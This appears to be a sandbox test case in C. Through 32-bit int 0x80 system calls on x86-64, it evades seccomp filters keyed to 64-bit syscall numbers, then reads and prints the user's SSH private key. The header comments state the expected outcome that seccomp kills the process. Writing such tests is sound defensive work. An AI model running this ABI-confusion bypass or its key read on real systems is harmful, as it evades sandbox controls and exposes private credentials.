// title: calls the kernel by int 0x80, where numbers mean other calls
// harm: learns
// B: seccomp kills what uses another ABI
// C: seccomp kills what uses another ABI
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "r8", "r9", "r10", "r11", "memory");
  return result;
}

int main(void) {
  char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  snprintf(low, 256, "%s/.ssh/id_ed25519", getenv("OP_HOME"));
  int file = call(5, (long)low, 0, 0);
  if (file < 0 || call(3, file, (long)low, 200) <= 0) return fprintf(stderr, "%d\n", file), 1;
  puts(low);
}
